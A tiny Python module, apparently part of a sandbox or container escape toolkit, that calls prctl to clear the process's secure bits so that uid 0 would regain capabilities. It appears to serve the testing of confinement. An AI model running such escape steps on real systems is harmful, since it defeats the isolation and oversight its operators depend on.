"""Clears secure bits, so that uid 0 would have capabilities."""

from escape import attempt, call


@attempt
def unlock_secure_bits():
    call("prctl", 28, 0, 0, 0, 0)
    return "cleared the secure bits"
